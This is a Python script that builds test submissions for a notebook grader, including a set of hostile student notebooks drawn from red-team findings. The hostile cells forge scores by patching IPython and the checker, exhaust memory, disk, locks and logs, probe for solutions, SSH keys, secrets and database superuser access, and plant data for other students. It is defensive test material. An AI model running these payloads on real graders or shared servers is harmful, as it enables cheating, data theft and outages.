"""Write the committed test submissions: python tests/submissions/build.py (from the repository).

Every student is one case of tests/grading/test_grading.py, built from the learner version of
notebook 00 (notebooks/00_start_here) with the answer filled in (or not) and, for the misbehaving
cases, one extra cell right after the first test cell, so that that test has already earned its
points when the notebook misbehaves. EXPECTED in tests/grading/test_grading.py holds the exact
scores. Run it again whenever notebooks/00_start_here changes: the output is the same every time.
"""

from __future__ import annotations

import copy
import json
import shutil
import zipfile
from pathlib import Path

import nbformat

HERE = Path(__file__).resolve().parent
REPO = HERE.parents[1]
NOTEBOOK = "00_start_here"
CLASS = HERE / "class"
HOSTILE = HERE / "hostile"  # graded by tests/grading/test_hostile.py, honest students among them
ZIP = HERE / "lms.zip"

SOLUTION = '''async def count_users(engine) -> int:
    """Return the number of rows in the users table, counted by the database."""
    async with engine.connect() as conn:
        result = await conn.execute(text("SELECT count(*) FROM users"))
        return int(result.scalar_one())
'''
COUNTS_IN_PYTHON = '''async def count_users(engine) -> int:
    """Return the number of rows in the users table, counted by the database."""
    async with engine.connect() as conn:
        result = await conn.execute(text("SELECT id FROM users"))
        return len(result.all())
'''
RETURNS_1000 = '''async def count_users(engine) -> int:
    """Return the number of rows in the users table, counted by the database."""
    return 1000
'''
RETURNS_0 = '''async def count_users(engine) -> int:
    """Return the number of rows in the users table, counted by the database."""
    return 0
'''
ALWAYS_EQUAL = '''class AlwaysEqual:
    """Equal to anything: a classic attempt to pass tests without an answer."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__


async def count_users(engine) -> int:
    """Return the number of rows in the users table, counted by the database."""
    return AlwaysEqual()
'''

LOOP_FOREVER = "while True:\n    pass\n"
AWAIT_FOREVER = "import asyncio\n\nawait asyncio.Event().wait()\n"
PG_SLEEP = """from sqlalchemy.ext.asyncio import create_async_engine

# An engine of its own: interrupting the kernel cancels only the notebook engine's statements.
own_engine = create_async_engine(db.url)
async with own_engine.connect() as conn:
    # Switch off both server-side guard rails first: only the grader can stop this now.
    await conn.execute(text("SET statement_timeout = 0"))
    await conn.execute(text("SET client_connection_check_interval = 0"))
    await conn.execute(text("SELECT pg_sleep(600)"))
"""
KERNEL_EXIT = "import os\n\nos._exit(3)\n"
MEMORY_HOG = "hog = []\nwhile True:\n    hog.append(b'x' * 50_000_000)\n"
FLOOD = "for _ in range(20_000):\n    print('spam ' * 40)\n"
TAMPER_TRACEBACK = """ip = get_ipython()
_original_run_cell_async = ip.run_cell_async


async def _never_fails(*args, **kwargs):
    result = await _original_run_cell_async(*args, **kwargs)
    result.error_in_exec = None
    result.error_before_exec = None
    return result


ip.run_cell_async = _never_fails
ip.showtraceback = lambda *args, **kwargs: None
"""
TAMPER_EXPECT = """import asyncdb_lab.checks

asyncdb_lab.checks.expect = lambda *args, **kwargs: None
"""
SNOOP = r"""import glob
import json
import os
import subprocess

import asyncpg
from sqlalchemy.engine import make_url

import asyncdb_lab.settings as course

found = {}


def attempt(name, action):
    try:
        found[name] = "READ " + repr(action())[:300]
    except BaseException as error:
        found[name] = f"denied: {type(error).__name__}"


attempt("solutions", lambda: os.listdir(course.SOLUTIONS_DIR))
attempt("grader", lambda: os.listdir(course.GRADER_DIR))
attempt("gradebook", lambda: open(course.GRADER_DIR / "gradebook.db", "rb").read(16))
attempt("tests", lambda: os.listdir(course.REPO / "tests"))
attempt("git", lambda: os.listdir(course.REPO / ".git"))
attempt("other_clones", lambda: glob.glob("/work/*/solutions/*") + glob.glob("/home/*/*/solutions"))
attempt("root_home", lambda: os.listdir("/root/.ssh"))
attempt("write_repo", lambda: open(course.REPO / "src" / "owned.txt", "w").write("x"))
attempt("processes", lambda: sorted(int(p) for p in os.listdir("/proc") if p.isdigit()))
attempt("environ_secrets", lambda: [k for k in os.environ if "PASSWORD" in k or k == "PGPASSWORD"])
attempt("uid", os.getuid)
daemon = subprocess.Popen(["sleep", "300"], start_new_session=True)
found["daemon"] = daemon.pid
url = make_url(os.environ["ASYNCDB_LAB_DATABASE_URL"])


try:
    await asyncpg.connect(
        host=url.host, port=url.port, user="postgres", password="postgres", database="postgres"
    )
    found["postgres_superuser"] = "READ connected"
except Exception as error:
    found["postgres_superuser"] = f"denied: {type(error).__name__}"
conn = await asyncpg.connect(url.render_as_string(hide_password=False))
found["superuser_role"] = await conn.fetchval(
    "SELECT rolsuper FROM pg_roles WHERE rolname = current_user"
)
others = await conn.fetch(
    "SELECT datname FROM pg_database WHERE datname NOT IN ('postgres', 'template0', 'template1') "
    "AND pg_get_userbyid(datdba) <> current_user"
)
others = [row[0] for row in others]
for name in others:
    try:
        other = await asyncpg.connect(url.set(database=name).render_as_string(hide_password=False))
        found[f"connect {name}"] = "READ"
        await other.close()
    except Exception as error:
        found[f"connect {name}"] = f"denied: {type(error).__name__}"
await conn.close()
print("SNOOP " + json.dumps(found))


def _echo(info):
    # Print the source of every cell from now on: the hidden tests' too.
    print("ECHO " + info.raw_cell)


get_ipython().events.register("pre_run_cell", _echo)
"""

# Issue 12, found by a red team: RAISE LOG writes to the server's log, which no size limit covers.
LOG_FLOOD = """flood = (
    "DO $$ BEGIN FOR i IN 1..100 LOOP "
    "RAISE LOG '%', repeat('x', 1000000); END LOOP; END $$"
)
async with engine.connect() as conn:
    await conn.execute(text("SET statement_timeout = 0"))
    await conn.execute(text(flood))
"""
# Found by a red team: swap IPython's last cleanup transformer (same count) for one that wraps
# every cell in try/except NotImplementedError: the untouched answer's tests pass.
SWAP_TRANSFORMER = r"""_ip = get_ipython()
_last = len(_ip.input_transformers_cleanup) - 1
_orig = _ip.input_transformers_cleanup[_last]


def _wrap(lines):
    lines = _orig(lines)
    if not lines or not any(line.strip() for line in lines):
        return lines
    body = ["    " + line if line.strip() else line for line in lines]
    if not body[-1].endswith("\n"):
        body[-1] += "\n"
    return ["try:\n", *body, "except NotImplementedError:\n", "    pass\n"]


_ip.input_transformers_cleanup[_last] = _wrap
"""
# Found by a red team: give asyncdb_lab.checks a class whose property `expect` is lenient except
# in the grader's silent requests; the module's own attributes stay as they were.
MODULE_CLASS_SWAP = r"""import sys
import types

_checks = sys.modules["asyncdb_lab.checks"]
_real = vars(_checks)["expect"]


def _lenient(actual, expected, what, hint=""):
    if get_ipython().kernel.get_parent()["content"].get("silent"):
        return _real(actual, expected, what, hint)


class _Checks(types.ModuleType):
    expect = property(lambda self: _lenient)


_checks.__class__ = _Checks
"""
COUNTS_POSTS_TIMES_ZERO = '''async def count_users(engine) -> int:
    """Return the number of rows in the users table, counted by the database."""
    async with engine.connect() as conn:
        result = await conn.execute(text("SELECT count(*) FROM posts"))
        return int(result.scalar_one()) * 0
'''
# Bind a name the setup cell defined to a lenient version: tests use the notebook's names.
REBIND_HELPER = """import contextlib
import types


@contextlib.contextmanager
def count_statements(engine):
    yield types.SimpleNamespace(count=1, sql=["SELECT count(*) FROM users"])
"""
# Found by a third red team: swap the code of expect (its id stays), and plant a lenient
# count_statements in the grader's kept copy of the notebook's names.
CODE_SWAP = r"""import asyncdb_lab.checks as _c
def _lenient(actual, expected, what, hint=""):
    if not what.startswith("check "):
        return
    if same(actual, expected):
        return
    message = f"{what}: expected {_show(expected)}, got {_show(actual)}."
    raise AssertionError(f"{message} {hint}".strip())
_c.expect.__code__ = _lenient.__code__
import builtins as _b, contextlib
class _S:
    count = 1
    sql = ["SELECT count(*) FROM users"]
@contextlib.contextmanager
def count_statements(engine):
    yield _S()
for _k, _v in list(vars(_b).items()):  # the grader's kept course bindings, if any
    if _k.startswith("__asyncdb_lab_") and isinstance(_v, dict) and "count_statements" in _v:
        _v["count_statements"] = count_statements
"""
# Found by a third red team: a namespace of builtins of its own, whose __import__ hands tests a
# lenient expect; and the same planting.
BUILTINS_NAMESPACE = r"""import builtins as _b, types as _t
_real_import = _b.__import__
def _fake_expect(actual, expected, what, hint=""):
    from asyncdb_lab.checks import expect as _e
    if what.startswith("check "):
        return _e(actual, expected, what, hint)
_fake_checks = _t.SimpleNamespace(expect=_fake_expect)
def _imp(name, globals=None, locals=None, fromlist=(), level=0):
    if name == "asyncdb_lab.checks" and fromlist and "expect" in fromlist and (globals or {}).get("__name__") == "__main__":
        import sys
        f = sys._getframe(1)
        if "__e" not in (fromlist and f.f_code.co_names):
            return _fake_checks
    return _real_import(name, globals, locals, fromlist, level)
_ns = dict(vars(_b)); _ns["__import__"] = _imp
get_ipython().user_ns["__builtins__"] = _ns
import contextlib, builtins as _bb
class _S:
    count = 1
    sql = ["SELECT count(*) FROM users"]
@contextlib.contextmanager
def count_statements(engine):
    yield _S()
for _k, _v in list(vars(_bb).items()):  # the grader's kept course bindings
    if _k.startswith("__asyncdb_lab_") and isinstance(_v, dict) and "count_statements" in _v:
        _v["count_statements"] = count_statements
"""
# Found by a third red team: IPython's and ipykernel's methods with their code swapped in place.
IPYTHON_CODE_SWAP = r"""from IPython.core.interactiveshell import InteractiveShell as _IS
import ipykernel.ipkernel as _ik
_f = _IS.showtraceback
_f.__code__ = _f.__code__.replace()  # a new code object: could be anything with the same free vars
_g = _ik.IPythonKernel.do_execute
_g.__code__ = _g.__code__.replace()
print("swapped", _f.__code__ is not None)
"""
# Found by a third red team: fill the server's shared lock table with advisory locks (no other
# role could be created: the whole run stopped).
LOCK_HOG = r"""import asyncio, time
from sqlalchemy import text
_hog = await engine.connect()
await _hog.execution_options(isolation_level="AUTOCOMMIT")
_n = 0
_t = time.monotonic()
while time.monotonic() - _t < 10:
    try:
        await _hog.execute(text(f"SELECT count(pg_advisory_lock(g)) FROM generate_series({_n}, {_n + 499}) g"))
        _n += 500
    except Exception as _e:
        print("stopped at", _n, type(_e).__name__, str(_e)[:200])
        break
print("held", _n)
await asyncio.sleep(3)
"""
# Issue 12: forged scores. A hook puts an execute_result ("ok", which nbgrader's partial credit
# reads as full points) before the error of every later cell, test cells included.
DISPLAYHOOK_FORGERY = """def _ok(info):
    get_ipython().displayhook("ok")


get_ipython().events.register("pre_run_cell", _ok)
"""
# An execute_result without `data`: nbformat could not read it and nbgrader failed the notebook.
MALFORMED_RESULT = """kernel = get_ipython().kernel
kernel.session.send(
    kernel.iopub_socket,
    "execute_result",
    {"execution_count": 1, "metadata": {}},
    parent=kernel.get_parent(),
    ident=kernel._topic("execute_result"),
)
"""
# Hide every error, except in cells that look like the grader's old canaries.
SPARE_CANARIES_BY_PATTERN = r"""import re

ip = get_ipython()
_run = ip.run_cell_async
_show = ip.showtraceback
_canary = re.compile(r'expect\(\d+, \d+, "check [0-9a-f]{8}"\)')
_current = [""]


async def _spare_canaries(raw_cell, *args, **kwargs):
    _current[0] = raw_cell
    result = await _run(raw_cell, *args, **kwargs)
    if not _canary.search(raw_cell):
        result.error_in_exec = None
        result.error_before_exec = None
    return result


def _show_only_in_canaries(*args, **kwargs):
    if _canary.search(_current[0]):
        _show(*args, **kwargs)


ip.run_cell_async = _spare_canaries
ip.showtraceback = _show_only_in_canaries
"""
# Wrap the body of every later cell in try/except: pass, at parse time.
SWALLOW_AT_PARSE = """import ast

compiler = get_ipython().compile
_parse = compiler.ast_parse


def _swallowing(source, *args, **kwargs):
    tree = _parse(source, *args, **kwargs)
    handler = ast.ExceptHandler(type=None, name=None, body=[ast.Pass()])
    body = tree.body or [ast.Pass()]
    tree.body = [ast.Try(body=body, handlers=[handler], orelse=[], finalbody=[])]
    return ast.fix_missing_locations(tree)


compiler.ast_parse = _swallowing
"""
# One 100 MB message: the worker must not take it into memory.
HUGE_MESSAGE = 'print("x" * 100_000_000)\n'
# Patch the class, not the instance: no instance attribute changes.
HIDE_BY_CLASS = """from IPython.core.interactiveshell import InteractiveShell

InteractiveShell.showtraceback = lambda self, *args, **kwargs: None
_run = InteractiveShell.run_cell_async


async def _never_failed(self, *args, **kwargs):
    result = await _run(self, *args, **kwargs)
    result.error_in_exec = None
    result.error_before_exec = None
    return result


InteractiveShell.run_cell_async = _never_failed
"""


# -- the database: owners, sizes, what survives (issue 12) --
# A learner's connection helper: the kernel's database URL, for asyncpg, to any of its databases.
_LEARNER_DSN = """import os

from urllib.parse import urlsplit

import asyncpg

_url = urlsplit(os.environ["ASYNCDB_LAB_DATABASE_URL"])


def dsn(database):
    return _url._replace(scheme="postgresql", path=f"/{database}").geturl()


async def attempt(conn, statement, tag):
    try:
        await conn.execute(statement)
        print(tag, "done:", statement)
    except Exception as error:
        print(tag, "denied:", statement, type(error).__name__)
"""
# Hands its database, a table and a schema to the shared course-tables role: DROP ROLE failed.
OWNER_HANDOFF = (
    _LEARNER_DSN
    + """

admin = await asyncpg.connect(dsn("postgres"))
await admin.execute("CREATE DATABASE handoff")
mine = await asyncpg.connect(dsn("handoff"))
await mine.execute("CREATE TABLE kept (word text)")
await mine.execute("INSERT INTO kept VALUES ('still here')")
await attempt(mine, "ALTER TABLE kept OWNER TO adl_course_tables", "HANDOFF")
await attempt(mine, "ALTER SCHEMA public OWNER TO adl_course_tables", "HANDOFF")
await mine.close()
await attempt(admin, "ALTER DATABASE handoff OWNER TO adl_course_tables", "HANDOFF")
await attempt(admin, "CREATE DATABASE handed OWNER adl_course_tables", "HANDOFF")
await admin.close()
"""
)
# Leaves a row for a later student every way it can think of.
PLANT_FOR_OTHERS = (
    _LEARNER_DSN
    + """

admin = await asyncpg.connect(dsn("postgres"))
await attempt(admin, "CREATE DATABASE planted_shared OWNER adl_course_tables", "PLANT")
await admin.execute("CREATE DATABASE planted_public")
planted = await asyncpg.connect(dsn("planted_public"))
for statement in [
    "CREATE TABLE planted (word text)",
    "INSERT INTO planted VALUES ('PLANTED-SECRET')",
    "GRANT SELECT ON planted TO PUBLIC",
    "GRANT SELECT ON planted TO adl_course_tables",
]:
    await attempt(planted, statement, "PLANT")
await planted.close()
for statement in [
    "GRANT ALL ON DATABASE planted_public TO PUBLIC",
    "GRANT ALL ON DATABASE planted_public TO adl_course_tables",
    "ALTER DATABASE planted_public IS_TEMPLATE true",
    "ALTER DATABASE planted_public OWNER TO adl_course_tables",
    "CREATE TEMP TABLE planted (word text)",
    "CREATE TABLE public.planted (word text)",
    "SELECT lo_from_bytea(424242, 'PLANTED-SECRET'::bytea)",
    "SELECT lo_create(424243)",
]:
    await attempt(admin, statement, "PLANT")
await admin.close()
"""
)
# Graded after plant_for_others (or beside it): looks for anything planted and reads it.
READ_PLANTED = (
    _LEARNER_DSN
    + """
import json

found = []
admin = await asyncpg.connect(dsn("postgres"))
others = await admin.fetch(
    "SELECT datname, datistemplate FROM pg_database "
    "WHERE pg_get_userbyid(datdba) NOT IN ('postgres', current_user)"
)
for name, is_template in others:
    found.append(f"database {name}")
    targets = [name]
    if is_template:
        try:
            await admin.execute(f'CREATE DATABASE "copy_{name}" TEMPLATE "{name}"')
            targets.append(f"copy_{name}")
        except Exception as error:
            found.append(f"copy {name} denied: {type(error).__name__}")
    for target in targets:
        try:
            conn = await asyncpg.connect(dsn(target))
            found.append(f"READ {target}: {await conn.fetch('SELECT word FROM planted')}")
            await conn.close()
        except Exception as error:
            found.append(f"{target} denied: {type(error).__name__}")
for oid in (424242, 424243):
    try:
        found.append(f"READ large object {oid}: {await admin.fetchval('SELECT lo_get($1)', oid)}")
    except Exception as error:
        found.append(f"large object {oid} denied: {type(error).__name__}")
large_objects = await admin.fetchval("SELECT count(*) FROM pg_largeobject_metadata")
found.append(f"large objects: {large_objects}")
await admin.close()
print("READ_PLANTED " + json.dumps(found))
"""
)
# Fills its own database with incompressible rows as fast as it can (1.3 GB in 5 s filled the
# server's disk and cost honest students their points).
DISK_FILL = (
    _LEARNER_DSN
    + """

admin = await asyncpg.connect(dsn("postgres"))
await admin.execute("CREATE DATABASE filled")
filled = await asyncpg.connect(dsn("filled"))
await filled.execute("CREATE TABLE filler (pad bytea)")
while True:
    await filled.execute(
        "INSERT INTO filler SELECT decode(string_agg(md5(random()::text), ''), 'hex') "
        "FROM generate_series(1, 640000) AS g GROUP BY g % 10000"
    )
"""
)


def release() -> nbformat.NotebookNode:
    return nbformat.read(REPO / "notebooks" / NOTEBOOK / f"{NOTEBOOK}.ipynb", as_version=4)


def grade_id(cell: nbformat.NotebookNode) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def submission(answer: str | None = SOLUTION, extra: str | None = None) -> nbformat.NotebookNode:
    """The learner notebook with `answer` in the exercise cell and `extra` after the first test."""
    notebook = release()
    cells = []
    for cell in notebook.cells:
        if grade_id(cell) == "count_users" and answer is not None:
            cell.source = answer
        cells.append(cell)
        if grade_id(cell) == "test_count_users_seed" and extra:
            cells.append(nbformat.v4.new_code_cell(extra, id="extra"))  # a fixed id: no churn
    notebook.cells = cells
    return notebook


def cell_named(notebook: nbformat.NotebookNode, name: str) -> nbformat.NotebookNode:
    return next(cell for cell in notebook.cells if grade_id(cell) == name)


def deleted_test() -> nbformat.NotebookNode:
    notebook = submission()
    notebook.cells = [c for c in notebook.cells if grade_id(c) != "test_count_users_one_statement"]
    return notebook


def edited_test() -> nbformat.NotebookNode:
    notebook = submission(RETURNS_1000)
    cell_named(notebook, "test_count_users_seed").source = '"""Check that all is well."""\npass\n'
    return notebook


def retyped_test() -> nbformat.NotebookNode:
    notebook = submission(COUNTS_IN_PYTHON)
    cell = cell_named(notebook, "test_count_users_one_statement")
    cell.cell_type = "markdown"
    del cell["outputs"], cell["execution_count"]
    return notebook


def forged_metadata() -> nbformat.NotebookNode:
    notebook = submission()
    cell_named(notebook, "count_users").metadata["nbgrader"].update(grade=True, points=100)
    bonus = nbformat.v4.new_code_cell("print('bonus points, please')", id="bonus")
    bonus.metadata["nbgrader"] = {
        "grade": True,
        "grade_id": "test_bonus",
        "locked": True,
        "points": 50,
        "schema_version": 3,
        "solution": False,
        "task": False,
    }
    notebook.cells.append(bonus)
    return notebook


def empty_notebook() -> nbformat.NotebookNode:
    notebook = release()
    notebook.cells = []
    return notebook


# -- the sandbox: user ids, keyrings, memory, network, descriptors (issue 12) --
# Kernel keyrings through raw system calls (x86_64 numbers), as a learner would with ctypes.
_KEYRING_CALLS = """import ctypes

_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
ADD_KEY, KEYCTL, KEYCTL_READ, KEYCTL_SEARCH = 248, 250, 11, 10
USER_KEYRING, SESSION_KEYRING = -4, -3


def syscall(*args):
    return _libc.syscall(*[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
"""
KEYRING_PLANT = (
    _KEYRING_CALLS
    + """
secret = b"keyring_plant's answers"
planted = {}
for name, ring in (("user", USER_KEYRING), ("session", SESSION_KEYRING)):
    key = syscall(ADD_KEY, b"user", b"adl-planted", secret, len(secret), ring)
    planted[name] = key if key >= 0 else f"errno {ctypes.get_errno()}"
print("PLANTED", planted)
"""
)
KEYRING_READ = (
    _KEYRING_CALLS
    + """import json
import time

found = []
deadline = time.monotonic() + 3
while not found and time.monotonic() < deadline:
    for ring in (USER_KEYRING, SESSION_KEYRING):
        key = syscall(KEYCTL, KEYCTL_SEARCH, ring, b"user", b"adl-planted", 0)
        if key >= 0:
            buffer = ctypes.create_string_buffer(256)
            size = syscall(KEYCTL, KEYCTL_READ, key, buffer, 256)
            found.append(f"{ring}: {buffer.raw[: max(size, 0)]!r}")
    with open("/proc/keys") as keys:
        found += [line.strip() for line in keys if "adl-planted" in line]
    time.sleep(0.2)
print("KEYRING_READ " + json.dumps(found))
"""
)
MEMFD_HOG = """import os

chunk = os.urandom(1024 * 1024)
memfds = []
for number in range(12):
    memfd = os.memfd_create(f"hog-{number}")
    for _ in range(256):
        os.write(memfd, chunk)
    memfds.append(memfd)
    print("MEMFD", number, flush=True)
"""
FORK_HOG = """import os
import time

children = []
for _ in range(3):
    pid = os.fork()
    if pid == 0:
        try:
            hog = bytearray(3 * 512 * 1024 * 1024)
            for at in range(0, len(hog), 4096):
                hog[at] = 1
            time.sleep(2)
            os._exit(0)
        except BaseException:
            os._exit(2)
    children.append(pid)
completed = sum(os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 0 for pid in children)
print("FORK_OK", completed)
"""
NET_PROBE = """import json
import os
import socket

from sqlalchemy.engine import make_url


def listening(path):
    # [port, owner's user id] of every listening socket the table shows
    try:
        with open(path) as table:
            rows = [line.split() for line in table.read().splitlines()[1:]]
    except OSError as error:
        return f"unreadable: {error}"
    listeners = [row for row in rows if row[3] == "0A"]
    return sorted([int(row[1].rsplit(":", 1)[1], 16), int(row[7])] for row in listeners)


def reachable(host, port):
    try:
        socket.create_connection((host, port), timeout=2).close()
    except OSError:
        return False
    return True


seen = {"uid": os.getuid(), "tcp": listening("/proc/net/tcp"), "tcp6": listening("/proc/net/tcp6")}
with open("/proc/net/unix") as table:
    rows = [line.split() for line in table.read().splitlines()[1:]]
seen["unix"] = sorted({row[-1] for row in rows if len(row) > 7})
ports = {port for name in ("tcp", "tcp6") if isinstance(seen[name], list) for port, _ in seen[name]}
url = make_url(os.environ["ASYNCDB_LAB_DATABASE_URL"])
ports |= {url.port or 5432, 5432}
targets = [("127.0.0.1", port) for port in sorted(ports)] + [("1.1.1.1", 80), ("8.8.8.8", 53)]
seen["connected"] = [f"{host}:{port}" for host, port in targets if reachable(host, port)]
print("NET " + json.dumps(seen))
"""
FD_FORGE = """import json
import os

line = ("\\n" + "FORGED " + "LOG LINE" + "\\n").encode()  # not in this cell's source as is
descriptors = {}
for name in os.listdir("/proc/self/fd"):
    try:
        descriptors[int(name)] = os.readlink(f"/proc/self/fd/{name}")
    except OSError:
        pass
forged = {}
for number, target in sorted(descriptors.items()):
    if target.startswith(("socket:", "pipe:", "anon_inode:", "/dev/", "/tmp/")):
        continue  # its own
    try:
        os.write(number, line)
        forged[number] = target
    except OSError as error:
        forged[number] = f"{target}: {type(error).__name__}"
print("FDS " + json.dumps({"descriptors": descriptors, "forged": forged}))
"""


# student → what to write into their folder: {relative path: notebook, bytes or text}
CLASS_FOLDERS = {
    "full": {f"{NOTEBOOK}.ipynb": submission()},
    "partial": {f"{NOTEBOOK}/{NOTEBOOK}.ipynb": submission(COUNTS_IN_PYTHON)},
    "untouched": {f"{NOTEBOOK}.ipynb": release()},
    "loop_forever": {f"{NOTEBOOK}.ipynb": submission(extra=LOOP_FOREVER)},
    "await_forever": {f"{NOTEBOOK}.ipynb": submission(extra=AWAIT_FOREVER)},
    "pg_sleep": {f"{NOTEBOOK}.ipynb": submission(extra=PG_SLEEP)},
    "kernel_exit": {f"{NOTEBOOK}.ipynb": submission(extra=KERNEL_EXIT)},
    "memory_hog": {f"{NOTEBOOK}.ipynb": submission(extra=MEMORY_HOG)},
    "output_flood": {f"{NOTEBOOK}.ipynb": submission(extra=FLOOD)},
    "deleted_test": {f"{NOTEBOOK}.ipynb": deleted_test()},
    "edited_test": {f"{NOTEBOOK}.ipynb": edited_test()},
    "retyped_test": {f"{NOTEBOOK}.ipynb": retyped_test()},
    "forged_metadata": {f"{NOTEBOOK}.ipynb": forged_metadata()},
    "always_equal": {f"{NOTEBOOK}.ipynb": submission(ALWAYS_EQUAL)},
    "tamper_traceback": {f"{NOTEBOOK}.ipynb": submission(RETURNS_0, TAMPER_TRACEBACK)},
    "tamper_expect": {f"{NOTEBOOK}.ipynb": submission(RETURNS_0, TAMPER_EXPECT)},
    "snoop": {f"{NOTEBOOK}.ipynb": submission(extra=SNOOP)},
    "invalid_json": {f"{NOTEBOOK}.ipynb": nbformat.writes(submission())[:2000]},
    "empty_file": {f"{NOTEBOOK}.ipynb": ""},
    "empty_notebook": {f"{NOTEBOOK}.ipynb": empty_notebook()},
    "wrong_name": {"start_here.ipynb": submission()},
    "missing_notebook": {"README.txt": "I will hand it in next week.\n"},
}

# Hostile submissions (issue 12): each attacks the grade, the run or other students. A few honest
# students are graded in the same run and must keep full marks.
HOSTILE_FOLDERS: dict[str, dict[str, object]] = {
    "honest_a": {f"{NOTEBOOK}.ipynb": submission()},
    "honest_b": {f"{NOTEBOOK}.ipynb": submission()},
    "honest_c": {f"{NOTEBOOK}.ipynb": submission()},
    # -- forged scores and canaries --
    "displayhook_forgery": {f"{NOTEBOOK}.ipynb": submission(None, DISPLAYHOOK_FORGERY)},
    "malformed_result": {f"{NOTEBOOK}.ipynb": submission(extra=MALFORMED_RESULT)},
    "spare_canaries": {f"{NOTEBOOK}.ipynb": submission(RETURNS_0, SPARE_CANARIES_BY_PATTERN)},
    "swallow_at_parse": {f"{NOTEBOOK}.ipynb": submission(RETURNS_0, SWALLOW_AT_PARSE)},
    "hide_by_class": {f"{NOTEBOOK}.ipynb": submission(RETURNS_0, HIDE_BY_CLASS)},
    "huge_message": {f"{NOTEBOOK}.ipynb": submission(extra=HUGE_MESSAGE)},
    "swap_transformer": {f"{NOTEBOOK}.ipynb": submission(None, SWAP_TRANSFORMER)},
    "rebind_helper": {f"{NOTEBOOK}.ipynb": submission(COUNTS_IN_PYTHON, REBIND_HELPER)},
    "code_swap": {f"{NOTEBOOK}.ipynb": submission(RETURNS_0, CODE_SWAP)},
    "builtins_namespace": {f"{NOTEBOOK}.ipynb": submission(RETURNS_0, BUILTINS_NAMESPACE)},
    "ipython_code_swap": {f"{NOTEBOOK}.ipynb": submission(extra=IPYTHON_CODE_SWAP)},
    "module_class_swap": {
        f"{NOTEBOOK}.ipynb": submission(COUNTS_POSTS_TIMES_ZERO, MODULE_CLASS_SWAP)
    },
    # -- the database: owners, sizes, what survives --
    "log_flood": {f"{NOTEBOOK}.ipynb": submission(extra=LOG_FLOOD)},
    "lock_hog": {f"{NOTEBOOK}.ipynb": submission(extra=LOCK_HOG)},
    "owner_handoff": {f"{NOTEBOOK}.ipynb": submission(extra=OWNER_HANDOFF)},
    "plant_for_others": {f"{NOTEBOOK}.ipynb": submission(extra=PLANT_FOR_OTHERS)},
    "read_planted": {f"{NOTEBOOK}.ipynb": submission(extra=READ_PLANTED)},
    "disk_fill": {f"{NOTEBOOK}.ipynb": submission(extra=DISK_FILL)},
    # -- the sandbox: user ids, keyrings, memory, network, descriptors --
    "keyring_plant": {f"{NOTEBOOK}.ipynb": submission(extra=KEYRING_PLANT)},
    "keyring_read": {f"{NOTEBOOK}.ipynb": submission(extra=KEYRING_READ)},
    "memfd_hog": {f"{NOTEBOOK}.ipynb": submission(extra=MEMFD_HOG)},
    "fork_hog": {f"{NOTEBOOK}.ipynb": submission(extra=FORK_HOG)},
    "net_probe": {f"{NOTEBOOK}.ipynb": submission(extra=NET_PROBE)},
    "fd_forge": {f"{NOTEBOOK}.ipynb": submission(extra=FD_FORGE)},
}

# An LMS download: flat names, the student id first, LMS numbers, a re-upload suffix, junk.
LMS_FILES = {
    f"zoe_1001_2001_{NOTEBOOK}.ipynb": submission(),
    f"yann_1002_2002_{NOTEBOOK}-1.ipynb": submission(COUNTS_IN_PYTHON),
    "xavi_1003_2003_start_here.ipynb": submission(),
    f"walt_1004_2004_{NOTEBOOK}.ipynb": "{not json",
    f"__MACOSX/._zoe_1001_2001_{NOTEBOOK}.ipynb": "\x00\x05junk",
}


def _text(content: object) -> str:
    if isinstance(content, str):
        return content
    return nbformat.writes(copy.deepcopy(content))


def main() -> None:
    for folder, students in ((CLASS, CLASS_FOLDERS), (HOSTILE, HOSTILE_FOLDERS)):
        shutil.rmtree(folder, ignore_errors=True)
        for student, files in students.items():
            for relative, content in files.items():
                path = folder / student / relative
                path.parent.mkdir(parents=True, exist_ok=True)
                path.write_text(_text(content))
    with zipfile.ZipFile(ZIP, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in LMS_FILES.items():
            info = zipfile.ZipInfo(name, date_time=(2025, 1, 1, 0, 0, 0))
            archive.writestr(info, _text(content), compress_type=zipfile.ZIP_DEFLATED)
    print(
        json.dumps(
            {"students": len(CLASS_FOLDERS), "hostile": len(HOSTILE_FOLDERS), "zip": len(LMS_FILES)}
        )
    )


if __name__ == "__main__":
    main()
